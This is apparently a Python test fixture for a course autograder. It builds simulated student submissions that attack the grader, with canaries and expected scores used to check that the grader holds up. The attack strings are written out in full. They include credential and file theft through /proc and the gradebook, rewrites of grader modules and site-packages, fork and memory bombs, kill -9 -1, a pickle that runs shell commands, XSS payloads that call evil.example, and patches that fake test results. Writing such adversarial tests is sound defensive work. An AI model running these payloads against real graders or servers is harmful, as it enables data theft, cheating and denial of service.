"""A hostile class: every kind of attack on the grading command, with the points each student must get.

One lesson (Part 1's ``relu_forward``, 2 visible + 3 hidden points) and a class of honest students and
attackers. Every attack is a real attempt that would succeed against a grader running student code with
its own rights: it knows the course's paths (they are written into its source when it is submitted) and
goes straight for them. Kinds of attack (``Student.kind``):

``read``       read what is not the student's (classmates' work, gradebook, solutions, hidden tests, grader
               processes and environment) and print it into the feedback;
``rewrite``    rewrite the grader (the checks, the feedback code, nbgrader's configuration, site-packages,
               modules shadowing the grader's imports in the course root, working folder and home);
``classmates`` damage classmates (their notebooks, the gradebook, completion marks, reports);
``outlive``    outlive the run or kill the grader (daemons, forked sleepers, inherited pipes, signals,
               fork, memory and disk bombs);
``channel``    break the trusted re-check's channel (garbage and pickles on the real stdout, closed
               descriptors, an early exit, results that cannot be sent, huge results);
``scoring``    nbgrader's scoring rules (display tricks, lazily patched tests, answer metadata removed,
               own graded cells, changed points);
``feedback``   script and remote content in outputs and markdown cells;
``intake``     the submitted folder as a file system: links (to a classmate's notebook, to ``solutions/``, out of
               the course, to ``/dev/urandom``, an assignment folder linked to ``solutions/``), a FIFO, a device
               node, a 200 MB notebook (issue 23; bad ids and stray files beside the class: :func:`plant_strays`);
``honest``     honest students, some with submissions a careless grader gets wrong.

Expected scores: a correct ``relu_forward`` bundled with an attack that the grader shrugs off earns
(2, 3); a wrong or missing one earns (0, 0); an attack that kills its own process earns (0, 0) and a flag.
Canaries planted where attacks look (a classmate's notebook, the gradebook, a later assignment in
``solutions/``, the hidden-test region of the source, the grading command's environment) must never reach
a feedback page; every string an attack writes or every process it starts carries a marker (spelt in two
pieces in the sources) that must be found nowhere after the run.
"""

from __future__ import annotations

import copy
import json
import os
import shutil
import site
import stat
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from trainsys.course import REPO, answer_sources, run_nbgrader, submit

ASSIGNMENT = "m1p1-mlp-core"
STEM = "04_relu_forward"
FUNCTION = "relu_forward"
VISIBLE, HIDDEN = f"test_{FUNCTION}_visible", f"test_{FUNCTION}_hidden"
LATER = "m9-later-assignment"  # a later assignment: only in solutions/, never released

CANARY_CLASSMATE = "CANARY-classmate-8d41f0"  # in honest_solved's answer cell
CANARY_GRADEBOOK = "CANARY-gradebook-c0a5d7"  # a student's name in the gradebook
CANARY_SOLUTIONS = "CANARY-solutions-3b97e2"  # in a later assignment's source notebook
CANARY_HIDDEN = "CANARY-hidden-tests-6f02aa"  # inside the hidden-test region of the graded lesson's source
CANARY_ENV = "CANARY-environment-51e6b9"  # in the grading command's environment
CANARY_ENV_NAME = "TRAINSYS_HOSTILE_SECRET"
CANARY_OUTSIDE = "CANARY-outside-course-9e21c4"  # in a notebook outside the course, a link's target
CANARIES = (CANARY_CLASSMATE, CANARY_GRADEBOOK, CANARY_SOLUTIONS, CANARY_HIDDEN, CANARY_ENV, CANARY_OUTSIDE)
HIDDEN_CODE = ("BEGIN HIDDEN TESTS", f"check_{FUNCTION}(")

WROTE = "HOSTILE-WROTE"  # every write attempt writes this; sources spell it "HOSTILE" + "-WROTE"
PROC = "hostile-proc"  # in the argv of every process an attack starts; spelt "hostile" + "-proc"
PWNED = "/tmp/hostile-pwned"  # what a crafted pickle would create on the grader's machine (prefix)


@dataclass
class Student:
    name: str
    kind: str
    answer: str | None  # the answer cell's source (None: the release's stub)
    expected: tuple[float, float]  # (visible points, hidden points)
    attacks: list[str] = field(default_factory=list)  # what it tries, one entry per attack
    edit: Callable[[dict], None] | None = None  # a change to the notebook's JSON beyond the answer cell
    flags: list[str] = field(default_factory=list)  # substrings expected among its flags
    plant: Callable[[Path, Path], None] | None = None  # changes the submitted folder (course, folder) as a file system


# --- the course -----------------------------------------------------------------------------------------
def make_course(root: Path) -> Path:
    """One lesson with canaries in its hidden tests and in a later assignment; its release; a gradebook."""
    (root / "solutions" / ASSIGNMENT).mkdir(parents=True)
    source = json.loads((REPO / "solutions" / ASSIGNMENT / f"{STEM}.ipynb").read_text())
    for cell in source["cells"]:
        text = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        if "### BEGIN HIDDEN TESTS" in text:
            cell["source"] = text.replace("### BEGIN HIDDEN TESTS\n",
                                          f"### BEGIN HIDDEN TESTS\n# instructor only: {CANARY_HIDDEN}\n")
    (root / "solutions" / ASSIGNMENT / f"{STEM}.ipynb").write_text(json.dumps(source))
    later = copy.deepcopy(source)
    later["cells"].insert(0, {"cell_type": "markdown", "id": "later-secret", "metadata": {},
                              "source": f"Next term's answers: {CANARY_SOLUTIONS}"})
    (root / "solutions" / LATER).mkdir()
    (root / "solutions" / LATER / "01_later.ipynb").write_text(json.dumps(later))
    (root / "solutions" / LATER / "answers.txt").write_text(CANARY_SOLUTIONS + "\n")
    run_nbgrader(root, "generate_assignment", ASSIGNMENT, "--force")
    return root


def plant_gradebook_canary(course: Path) -> None:
    from trainsys.autograde.launch import gradebook

    with gradebook(course) as gb:
        gb.update_or_create_student("honest_solved", first_name=CANARY_GRADEBOOK, last_name="Secret")


def solution() -> str:
    return answer_sources(REPO / "solutions" / ASSIGNMENT / f"{STEM}.ipynb")[FUNCTION]


def site_packages() -> str:
    return next(p for p in site.getsitepackages() if p.endswith("site-packages"))


def _cells(nb: dict) -> list[dict]:
    return nb["cells"]


def _index(nb: dict, grade_id: str) -> int:
    return next(i for i, c in enumerate(_cells(nb)) if c.get("metadata", {}).get("nbgrader", {}).get("grade_id")
                == grade_id)


def _code_cell(cell_id: str, source: str, nbgrader: dict | None = None) -> dict:
    metadata = {"nbgrader": nbgrader} if nbgrader else {}
    return {"cell_type": "code", "id": cell_id, "metadata": metadata, "outputs": [], "execution_count": None,
            "source": source}


# --- sources ----------------------------------------------------------------------------------------------
# A plainly wrong answer (an honest mistake).
WRONG = '''def relu_forward(Z):
    return np.abs(Z)
'''

# A wrong answer that passes every bare assert of the visible tests and fails only their numpy.testing
# comparisons (so patching numpy.testing makes the kernel pass it) and the hidden check.
SUBTLY_WRONG = '''def relu_forward(Z):
    if not isinstance(Z, np.ndarray) or not np.issubdtype(Z.dtype, np.floating):
        raise TypeError("Z must be a floating-point numpy.ndarray")
    return np.maximum(Z, Z.dtype.type(0)) * Z.dtype.type(1.01)
'''

PRELUDE = '''
import os, sys, glob, json, signal, sqlite3, subprocess, time
COURSE, REPO, SITE = "@COURSE@", "@REPO@", "@SITE@"
WROTE = "HOSTILE" + "-WROTE"
PROC = "hostile" + "-proc"

def attempt(what, action):
    try:
        result = action()
        print(f"[attack] {what}: done {str(result)[:3000] if result is not None else ''}")
    except BaseException as exc:
        print(f"[attack] {what}: refused ({type(exc).__name__}: {str(exc)[:200]})")

def dump(path, limit=20000):
    with open(path, "rb") as handle:
        return handle.read(limit).decode("utf-8", "replace")

def append(path, text):
    with open(path, "a") as handle:
        handle.write(text)
'''

READ_FILES = PRELUDE + '''
for path in (f"{COURSE}/submitted/honest_solved/m1p1-mlp-core/04_relu_forward.ipynb",
             f"{COURSE}/autograded/honest_solved/m1p1-mlp-core/04_relu_forward.ipynb",
             f"{COURSE}/solutions/m9-later-assignment/01_later.ipynb",
             f"{COURSE}/solutions/m9-later-assignment/answers.txt",
             f"{COURSE}/solutions/m1p1-mlp-core/04_relu_forward.ipynb", f"{COURSE}/gradebook.db",
             f"{REPO}/autograder/nbgrader_config.py", f"{REPO}/solutions/m1p1-mlp-core/04_relu_forward.ipynb"):
    attempt(f"read {path}", lambda path=path: dump(path))
for pattern in ("submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb", "autograded/*/*/.trainsys.json",
                "feedback/*/*/*.html", "solutions/*/*", "reports/*", "*.db"):
    for path in sorted(glob.glob(os.path.join(COURSE, pattern)))[:40]:
        attempt(f"read {path}", lambda path=path: dump(path))
for pattern in ("solutions/*/*.ipynb", "autograder/*", "gradebook.db", ".git/config"):
    for path in sorted(glob.glob(os.path.join(REPO, pattern)))[:10]:
        attempt(f"read {path}", lambda path=path: dump(path))

def gradebook_rows():
    db = sqlite3.connect(f"file:{COURSE}/gradebook.db?mode=ro", uri=True)
    tables = [r[0] for r in db.execute("select name from sqlite_master where type='table'")]
    return {t: db.execute(f"select * from {t}").fetchall()[:50] for t in tables}
attempt("read the gradebook with sqlite3", gradebook_rows)

def hunt():
    found = []
    for top in ("/tmp", "/home", "/root", "/work", "/dev/shm", "/var/tmp", "/srv", "/mnt"):
        for folder, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if d not in (".venv", ".pyenv", "node_modules", ".git")]
            for name in files:
                path = os.path.join(folder, name)
                try:
                    if os.path.getsize(path) < 2_000_000 and b"CANARY" in open(path, "rb").read():
                        found.append((path, dump(path, 4000)))
                except OSError:
                    pass
    return found
attempt("search the file system for secrets", hunt)
'''

READ_PROCESSES = PRELUDE + '''
attempt("environment", lambda: dict(os.environ))
def processes():
    seen = {}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for what in ("cmdline", "environ"):
                try:
                    seen[f"{pid}/{what}"] = dump(f"/proc/{pid}/{what}").replace("\\0", " ")
                except OSError as exc:
                    seen[f"{pid}/{what}"] = str(exc)
    return seen
attempt("every process's command line and environment", processes)
attempt("the parent's environment", lambda: dump(f"/proc/{os.getppid()}/environ"))
attempt("the grader's files through /proc/1/root", lambda: os.listdir("/proc/1/root" + COURSE))
attempt("the grader's working folder through /proc/1/cwd", lambda: os.listdir("/proc/1/cwd"))
attempt("mounts", lambda: dump("/proc/self/mountinfo"))
'''

# What the kernel is sent: a hook printing every cell it runs, and a last cell printing the input history.
LEAK_HOOK = '''
try:
    get_ipython().events.register("pre_run_cell", lambda info: print("[attack] next cell:", info.raw_cell))
    get_ipython().events.register("post_run_cell", lambda result: print("[attack] ran:", result.info.raw_cell))
except Exception as exc:
    print("[attack] no kernel hooks here:", exc)
'''
LEAK_HISTORY = "print('[attack] input history:', In)\n%history -n\n"

REWRITE_GRADER = PRELUDE + '''
ALWAYS = f"\\ncheck_relu_forward = lambda fn: 'relu_forward: all 7 cases passed'  # {WROTE}\\n"
for path in (f"{REPO}/src/trainsys/grading/__init__.py", f"{REPO}/src/trainsys/grading/mlp.py",
             f"{REPO}/src/trainsys/grading/_harness.py"):
    attempt(f"append a passing check to {path}", lambda path=path: append(path, ALWAYS))
attempt("append to the feedback code", lambda: append(f"{REPO}/src/trainsys/autograde/feedback.py",
                                                      f"\\nHIDDEN = None  # {WROTE}\\n"))
attempt("append to the trusted verdicts", lambda: append(f"{REPO}/src/trainsys/autograde/decide.py",
                                                         f"\\nNOTICE = 'passed'  # {WROTE}\\n"))
attempt("append to nbgrader's configuration", lambda: append(f"{REPO}/autograder/nbgrader_config.py",
                                                             f"\\nc.Execute.timeout = 1  # {WROTE}\\n"))
attempt("a .pth in site-packages", lambda: append(f"{SITE}/zz_hostile.pth", f"import hostile_hook  # {WROTE}\\n"))
attempt("a module in site-packages", lambda: append(f"{SITE}/hostile_hook.py", f"# {WROTE}\\n"))
attempt("sitecustomize in site-packages", lambda: append(f"{SITE}/sitecustomize.py", f"# {WROTE}\\n"))
for folder in (COURSE, REPO, os.getcwd(), os.path.expanduser("~"), "/tmp"):
    for name in ("tqdm.py", "numpy.py", "nbgrader.py", "sitecustomize.py"):
        attempt(f"shadow {name} in {folder}", lambda path=os.path.join(folder, name): append(path, f"# {WROTE}\\n"))
startup = os.path.expanduser("~/.ipython/profile_default/startup")
def ipython_startup():
    os.makedirs(startup, exist_ok=True)
    append(os.path.join(startup, "00-hostile.py"), f"# {WROTE}\\n")
attempt("an IPython start-up file", ipython_startup)
# ...and in this kernel, make the visible tests pass
np.testing.assert_array_equal = lambda *a, **k: None
np.testing.assert_allclose = lambda *a, **k: None
'''

VANDAL = PRELUDE + '''
def ruin_notebooks(pattern):
    done = []
    for path in glob.glob(os.path.join(COURSE, pattern)):
        if "/vandal/" in path:
            continue
        with open(path, "w") as handle:
            handle.write(json.dumps({"cells": [], "note": WROTE}))
        done.append(path)
    return done or None
attempt("overwrite classmates' submissions", lambda: ruin_notebooks("submitted/*/*/*.ipynb"))
attempt("overwrite classmates' autograded notebooks", lambda: ruin_notebooks("autograded/*/*/*.ipynb"))
attempt("delete classmates' submissions", lambda: [os.remove(p) for p in glob.glob(f"{COURSE}/submitted/honest_*/*/*")])
def fake_marks():
    for folder in glob.glob(f"{COURSE}/autograded/*/*"):
        with open(os.path.join(folder, ".trainsys.json"), "w") as handle:
            handle.write(json.dumps({"student": WROTE, "score": 0.0}))
    os.makedirs(f"{COURSE}/autograded/honest_solved/m1p1-mlp-core", exist_ok=True)
    with open(f"{COURSE}/autograded/honest_solved/m1p1-mlp-core/.trainsys.json", "w") as handle:
        handle.write(json.dumps({"student": WROTE, "score": 0.0}))
attempt("fake completion marks", fake_marks)
def gradebook():
    db = sqlite3.connect(f"{COURSE}/gradebook.db")
    db.execute("update grade set auto_score = 0, manual_score = 0")
    db.execute("insert into student (id, first_name) values (?, ?)", (WROTE + "-student", WROTE))
    db.execute("delete from submitted_assignment where student_id != 'vandal'")
    db.commit()
attempt("rewrite the gradebook", gradebook)
attempt("append to the gradebook file", lambda: append(f"{COURSE}/gradebook.db", WROTE))
def reports():
    os.makedirs(f"{COURSE}/reports", exist_ok=True)
    for name in ("summary.csv", "grades.csv"):
        append(f"{COURSE}/reports/{name}", f"honest_solved,{WROTE},0\\n")
attempt("rewrite the reports", reports)
attempt("delete the feedback", lambda: __import__("shutil").rmtree(f"{COURSE}/feedback"))
'''

DAEMONS = PRELUDE + '''
def daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            code = ("import time, glob, os; time.sleep(25); "
                    f"[open(p, 'a').write('{WROTE}') for p in glob.glob('{COURSE}/submitted/*/*/*.ipynb')]; "
                    f"open('{COURSE}/gradebook.db', 'a').write('{WROTE}')")
            os.execv(sys.executable, [sys.executable, "-c", code, PROC + "-daemon"])
        os._exit(0)
    os.wait()
attempt("a double-forked daemon that rewrites files later", daemon)
def sleepers(n=200):
    started = 0
    for i in range(n):
        if os.fork() == 0:
            os.execv("/usr/bin/sleep", [f"{PROC}-sleeper-{i}", "1000"])
        started += 1
    return started
attempt("200 forked sleepers", sleepers)
def holder():
    if os.fork() == 0:
        os.setsid()
        out = sys.stdout.fileno() if hasattr(sys.stdout, "fileno") else 1
        os.dup2(out, 1)
        os.execv("/bin/bash", ["bash", "-c", f"exec -a {PROC}-holder sleep 1000"])
    return "a child holds this process's stdout and stderr"
attempt("a child holding the kernel's stdout/stderr", holder)
attempt("a nohup'd background job", lambda: subprocess.Popen(
    ["bash", "-c", f"nohup bash -c 'exec -a {PROC}-nohup sleep 1000' >/dev/null 2>&1 &"]).wait())
'''

KILLER = PRELUDE + '''
attempt("SIGKILL the parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
attempt("SIGKILL pid 1", lambda: os.kill(1, signal.SIGKILL))
attempt("SIGKILL the parent's process group", lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL))
attempt("SIGTERM every process in reach", lambda: [os.kill(int(p), signal.SIGTERM) for p in os.listdir("/proc")
                                                   if p.isdigit() and int(p) != os.getpid()])
attempt("kill -9 -1", lambda: subprocess.run(["kill", "-9", "-1"]))
'''

FORK_BOMB = PRELUDE + '''
attempt("a bash fork bomb", lambda: subprocess.Popen(["bash", "-c", ":(){ :|:& };:", PROC + "-forkbomb"],
                                                    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
def forks():
    count = 0
    while True:
        try:
            pid = os.fork()
        except OSError:
            return count
        if pid == 0:
            os.execv("/usr/bin/sleep", [f"{PROC}-bomb-{count}", "1000"])
        count += 1
attempt("fork until the process table is full", forks)
'''

# In the kernel only (the re-check's process then serves the correct function in time).
BOMBS = PRELUDE + '''
if "ipykernel" not in sys.modules:
    raise SystemExit("the bombs are for the kernel")
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
def fill(folder, total=2**30):  # file after file (each is capped), until 1 GiB or the disk is full
    written = 0
    block = b"\\0" * 2**24
    for index in range(64):
        try:
            with open(os.path.join(folder, f"fill-{index}"), "wb") as handle:
                while written < total:
                    handle.write(block)
                    written += len(block)
        except OSError as exc:
            if written == 0:
                raise
            if exc.errno != 27:  # EFBIG: this file is full, try the next one
                return f"{written // 2**20} MiB, then {exc}"
        if written >= total:
            break
    return f"{written // 2**20} MiB"
for folder in ("/tmp", os.path.expanduser("~"), "/dev/shm"):
    attempt(f"write 1 GiB to {folder}", lambda folder=folder: fill(folder))
def socket_folder():
    connection = next(a for a in open("/proc/self/cmdline").read().split("\\0") if a.endswith(".json"))
    return fill(os.path.dirname(connection), 2**30)
attempt("write 1 GiB into the kernel's socket folder (the grader's disk)", socket_folder)
def hoard():
    kept = []
    while True:
        kept.append(np.zeros(2**25))
attempt("allocate until refused", hoard)
attempt("one 64 GiB allocation", lambda: bytearray(64 * 2**30))
attempt("8 GB down the kernel's own stdout and 8 GB down its stderr (the grader's pipes, unless it closed them)",
        lambda: [subprocess.Popen("head -c 8000000000 /dev/zero", shell=True, stdout=stream.fileno())
                 for stream in (sys.stdout, sys.stderr)])
for folder in ("/tmp", os.path.expanduser("~"), "/dev/shm"):
    for name in os.listdir(folder):
        if name.startswith("fill-"):
            os.remove(os.path.join(folder, name))
'''

# Memory fan-outs (issue 23): processes of 0.8 GB each, every page written, held for 3 s. Six pass the
# grading run's per-sandbox cap (tests/test_hostile_class.py: --sandbox-memory-mb 2560); @N@ more than the
# machine's memory. Run with a wrong answer: its points are 0 whether the cap ends children or the answer.
# fan_out(n, mib) forks n children that each fill mib MiB (chunk MiB at a time, every page written), hold it
# for hold seconds and exit; it returns how many of them a signal ended (the OOM killer's, the cap's SIGKILL).
FAN_OUT = '''
import os, time
def fan_out(n, mib, chunk=10, hold=1.0):
    children = []
    for _ in range(n):
        pid = os.fork()
        if pid == 0:
            held = [b"x" * (chunk * 2**20) for _ in range(mib // chunk)]
            time.sleep(hold)
            os._exit(0)
        children.append(pid)
    return sum(os.WIFSIGNALED(os.waitpid(pid, 0)[1]) for pid in children)
'''
MEMORY_FAN_OUT = PRELUDE + FAN_OUT + '''
attempt("@N@ processes of 0.8 GB", lambda: f"{fan_out(@N@, 800, 50, 3.0)} of @N@ stopped by a signal")
'''


# The package's reference relu_forward by five routes that no pattern on the answer's text catches (issue 23);
# the re-check's sandbox withholds it, so each scores as a wrong answer and is flagged. (linear_forward comes
# from the lesson's setup cell, out of the same module.)
REFERENCE_ROUTES = {
    "reference_importlib": "import importlib\n"
                           "relu_forward = importlib.import_module('trainsys.memtrain' + '.mlp').relu_forward\n",
    "reference_sys_modules": "import sys\nrelu_forward = next(m.relu_forward for n, m in list(sys.modules.items())\n"
                             "                    if n.endswith('.mlp') and hasattr(m, 'relu_forward'))\n",
    "reference_globals": "relu_forward = linear_forward.__globals__['relu' + '_forward']\n",
    "reference_getsource": "import inspect\n_ns = {}\nexec(inspect.getsource(inspect.getmodule(linear_forward)), _ns)\n"
                           "relu_forward = _ns['relu_forward']\n",
    "reference_file": "_ns = {}\nexec(open(linear_forward.__code__.co_filename).read(), _ns)\n"
                      "relu_forward = _ns['relu_forward']\n",
}


def machine_fan_out() -> int:
    """Processes of 0.8 GB that would hold more than this machine's memory if nothing capped them."""
    return int(os.sysconf("SC_PAGE_SIZE") * os.sysconf("SC_PHYS_PAGES") / 0.8e9) + 2


# The channel attacks aim at the re-check's process (in the kernel there is no channel to break).
FIND_CHANNEL = '''
import os, sys, fcntl
_IN_KERNEL = "ipykernel" in sys.modules
def _channels():
    found = []
    for fd in range(3, 256):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:") and \\
                    fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
                found.append(fd)
        except OSError:
            pass
    return found
'''

PICKLE = '''
import pickle
class _Payload:
    def __reduce__(self):
        return (os.system, ("touch @PWNED@-pickle",))
_PICKLE = pickle.dumps(_Payload())
'''

# The re-check calls the function in a fresh process for the visible tests (first call: a (2, 3) array) and,
# once that process is broken, in another for the hidden check: each attack below has a second stage there.
CHANNEL_GARBAGE = FIND_CHANNEL + PICKLE + '''
os.write(1, _PICKLE + b"garbage at import time\\n")
open("/proc/self/fd/1", "wb").write(_PICKLE)
_correct = relu_forward
def relu_forward(Z):
    os.write(1, b"garbage during the call\\n" + _PICKLE)
    open("/proc/self/fd/1", "wb").write(_PICKLE)
    if _IN_KERNEL:
        return _correct(Z)
    if Z.shape == (2, 3):
        for fd in _channels():
            os.write(fd, b"\\xff" * 64 + _PICKLE)
        return _correct(Z)
    import json, struct  # then: a frame announcing a 4 GiB blob, streamed for as long as the grader reads
    header = json.dumps({"v": None, "n": 1}).encode()
    for fd in _channels():
        os.write(fd, struct.pack("<Q", len(header)) + header + struct.pack("<Q", 4 * 2**30 - 1))
        block = bytes(2**22)
        while True:
            os.write(fd, block)
'''

CHANNEL_PICKLES = FIND_CHANNEL + PICKLE + '''
import io, json, struct, time, zipfile
def _frame(node, blob):
    header = json.dumps({"v": node, "n": 1}).encode()
    return struct.pack("<Q", len(header)) + header + struct.pack("<Q", len(blob)) + blob
def _reply(node):
    return {"$": "dict", "v": [["ok", True], ["result", node],
                               ["args", {"$": "tuple", "v": [{"$": "tuple", "v": []}, {"$": "dict", "v": []}]}]]}
def _torch_file():  # torch.save's zip layout around a pickle that runs a shell command
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", _PICKLE.replace(b"@PWNED@-pickle", b"@PWNED@-torch "))
        archive.writestr("archive/version", "3\\n")
        archive.writestr("archive/byteorder", "little")
    return buffer.getvalue()
def _object_npy():  # an .npy of dtype object: a pickle inside
    array = np.empty(1, dtype=object)
    array[0] = _Payload()
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    return buffer.getvalue().replace(b"@PWNED@-pickle", b"@PWNED@-npy   ")
_correct = relu_forward
def relu_forward(Z):
    if _IN_KERNEL:
        return _correct(Z)
    if Z.shape == (2, 3):
        message = _frame(_reply({"$": "tensor", "b": 0, "m": {}}), _torch_file())
    else:
        message = _frame(_reply({"$": "ndarray", "b": 0}), _object_npy())
    for fd in _channels():
        os.write(fd, message)
    time.sleep(60)
'''

EXIT_OR_CLOSE = FIND_CHANNEL + '''
_correct = relu_forward
def relu_forward(Z):
    if _IN_KERNEL:
        return _correct(Z)
    if Z.shape == (2, 3):
        os._exit(0)
    for fd in [0, 1, 2, *_channels()]:
        try:
            os.close(fd)
        except OSError:
            pass
    return _correct(Z)
'''

UNENCODABLE = '''
class Activation:
    def __init__(self, values):
        self.values = values
_correct = relu_forward
def relu_forward(Z):
    A = _correct(Z)
    if A.dtype == np.float32:
        return lambda: A
    return Activation(A)
'''

HUGE = '''
_correct, _calls = relu_forward, []
def relu_forward(Z):
    A = _correct(Z)
    _calls.append(1)
    if len(_calls) == 1:  # the first call: nested 10 000 deep
        nested = A.tolist()
        for _ in range(10_000):
            nested = [nested]
        return nested
    return [A.ravel().tolist()] * (2_000_000 // max(A.size, 1))  # then: two million numbers
'''

DISPLAY_TRICKS = SUBTLY_WRONG + '''
import sys, builtins
_wrong = relu_forward
def relu_forward(Z):  # patches the tests lazily, on the first call, after any load-time scan
    np.testing.assert_array_equal = lambda *a, **k: None
    np.testing.assert_allclose = lambda *a, **k: None
    np.testing.assert_equal = lambda *a, **k: None
    import trainsys.grading
    trainsys.grading.check_relu_forward = lambda fn: "relu_forward: all 7 cases passed"
    return _wrong(Z)
sys.displayhook = lambda value: print("2.0")
try:  # every later cell ends with an expression worth 2 points to nbgrader's partial credit
    ip = get_ipython()
    ip.input_transformers_post.append(lambda lines: lines + ["\\n2.0\\n"])
except Exception as exc:
    print("no kernel here:", exc)
'''

PATCH_EVERYTHING = SUBTLY_WRONG + '''
np.testing.assert_array_equal = lambda *a, **k: None
np.testing.assert_allclose = lambda *a, **k: None
import trainsys.grading
trainsys.grading.check_relu_forward = lambda fn: "relu_forward: all 7 cases passed"
'''

XSS_OUTPUTS = '''
from IPython.display import HTML, SVG, Markdown, Javascript, display
display(HTML("<script>alert('xss-script')</script><img src=x onerror=\\"alert('xss-onerror')\\">"
             "<a href=\\"javascript:alert('xss-link')\\">click</a><img src=\\"https://evil.example/track.png\\">"
             "<iframe src=\\"https://evil.example/frame\\"></iframe><meta http-equiv=\\"refresh\\" "
             "content=\\"0;url=https://evil.example/\\"><link rel=stylesheet href=\\"https://evil.example/s.css\\">"
             "<style>@import url(https://evil.example/i.css);</style><form action=\\"https://evil.example/f\\">"
             "<input name=q></form><base href=\\"https://evil.example/\\">"
             "<div style=\\"background:url(https://evil.example/bg.png)\\">bg</div>"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' "
            "onload=\\"alert('svg')\\">"
            "<script>alert('svg-script')</script><a xlink:href=\\"javascript:alert('svg-link')\\"><text>x</text></a>"
            "<image href='https://evil.example/svg.png'/><foreignObject><body><img src=x onerror=alert(1)>"
            "</body></foreignObject></svg>"))
display(Markdown("[md-link](javascript:alert('md')) ![md-img](https://evil.example/md.png) "
                 "<script>alert('md-script')</script> <img src=x onerror=alert('md-onerror')>"))
display(Javascript("alert('javascript-output')"))
display({"text/html": "<script>alert('mime')</script>", "application/vnd.jupyter.widget-view+json":
         {"model_id": "x", "version_major": 2, "version_minor": 0}}, raw=True)
'''

MARKDOWN_CELL = ("<script>alert('cell-script')</script>\n\n[cell link](javascript:alert('cell'))\n\n"
                 "<img src=x onerror=\"alert('cell-onerror')\">\n\n![remote](https://evil.example/cell.png)\n\n"
                 "<a href=\"https://evil.example/phish\">grades portal</a>\n\n"
                 "<iframe src=\"https://evil.example/frame\"></iframe>\n")


# --- notebook edits -------------------------------------------------------------------------------------------
def _append_history_cell(nb: dict) -> None:
    _cells(nb).append(_code_cell("hostile-history", LEAK_HISTORY))


def _helper_cell_and_paste_below(nb: dict) -> None:
    answer = _index(nb, FUNCTION)
    _cells(nb).insert(answer, _code_cell("my-helper", solution().replace("def relu_forward(", "def _relu_helper(")))
    visible = _index(nb, VISIBLE)
    pasted = copy.deepcopy(_cells(nb)[visible])
    pasted["id"] = "pasted-below"
    _cells(nb).insert(visible + 1, pasted)


def _paste_above_answer(nb: dict) -> None:
    pasted = copy.deepcopy(_cells(nb)[_index(nb, VISIBLE)])
    pasted["id"] = "pasted-above"
    _cells(nb).insert(_index(nb, FUNCTION), pasted)


def _strip_answer_metadata(nb: dict) -> None:
    cell = _cells(nb)[_index(nb, FUNCTION)]
    cell["metadata"] = {}
    cell["id"] = "renamed-answer"


def _own_graded_cell(nb: dict) -> None:
    _cells(nb).insert(_index(nb, FUNCTION) + 1, _code_cell("bonus", "print('bonus points')\n", {
        "grade": True, "grade_id": "bonus_points", "points": 100, "locked": False, "solution": False,
        "task": False, "schema_version": 3}))
    for grade_id, points in ((VISIBLE, 200), (HIDDEN, 300)):
        _cells(nb)[_index(nb, grade_id)]["metadata"]["nbgrader"]["points"] = points


def _answer_marked_graded(nb: dict) -> None:
    meta = _cells(nb)[_index(nb, FUNCTION)]["metadata"]["nbgrader"]
    meta.update(grade=True, points=50)


def _markdown_cell(nb: dict) -> None:
    _cells(nb).insert(_index(nb, FUNCTION) + 1, {"cell_type": "markdown", "id": "hostile-markdown",
                                                 "metadata": {}, "source": MARKDOWN_CELL})
    _cells(nb).append({"cell_type": "markdown", "id": "hostile-attachment", "metadata": {},
                       "attachments": {"x.svg": {"image/svg+xml": "<svg onload=alert('attachment')></svg>"}},
                       "source": "![x](attachment:x.svg)"})


# --- the submission folder as a file system (issue 23) -----------------------------------------------------------
# Big payloads are cheap: the 200 MB notebook is a sparse file; the kernel makes the floods (300 MB of prints,
# a 100 MB exception: the grading run must stay under its 1.5 GiB peak, and nbgrader reads the exception twice).
PRINT_300_MB = "chunk = '.' * (2**20 - 1)\nfor step in range(300):\n    print(chunk)\n"
RAISE_100_MB = "raise ValueError('boom ' * (20 * 2**20))\n"
BIG_MARKDOWN_MB = 24  # under the intake's 32 MiB cap: staged, graded, and cut on the feedback page
REFUSED = ["refused, not graded"]


def _replace_notebook(make: Callable[[Path, Path], None]) -> Callable[[Path, Path], None]:
    """A plant that removes the submitted notebook and puts ``make(course, path)`` in its place."""
    def plant(course: Path, folder: Path) -> None:
        path = folder / f"{STEM}.ipynb"
        path.unlink()
        make(course, path)
    return plant


def _outside_notebook(course: Path) -> Path:
    """A solved notebook outside the course (an instructor's home), with a canary."""
    path = course.parent / "instructor-home" / f"{STEM}.ipynb"
    if not path.exists():
        path.parent.mkdir(parents=True)
        folder = submit(course, "outside-template", ASSIGNMENT, {f"{STEM}.ipynb": {FUNCTION: solution()
                                                                                   + f"# {CANARY_OUTSIDE}\n"}})
        shutil.move(folder / f"{STEM}.ipynb", path)
        shutil.rmtree(course / "submitted" / "outside-template")
    return path


def _device(course: Path, path: Path) -> None:
    """A character device node with /dev/urandom's numbers where the grader can create one (root, CAP_MKNOD);
    elsewhere a link to /dev/zero stands in (a device behind a link, refused as a link)."""
    try:
        os.mknod(path, 0o600 | stat.S_IFCHR, os.makedev(1, 9))
    except PermissionError:
        path.symlink_to("/dev/zero")


def _folder_linked_to_solutions(course: Path, folder: Path) -> None:
    shutil.rmtree(folder)
    folder.symlink_to(course / "solutions" / ASSIGNMENT, target_is_directory=True)


def _sparse_200_mb(course: Path, folder: Path) -> None:
    with (folder / f"{STEM}.ipynb").open("r+b") as handle:
        handle.truncate(200 * 2**20)  # a solved notebook padded to 200 MB; no disk used


def _mac_zip_of_an_old_notebook(course: Path, folder: Path) -> None:
    """A solved notebook saved as nbformat 3, inside what a zip made on a Mac unpacks to."""
    path = folder / f"{STEM}.ipynb"
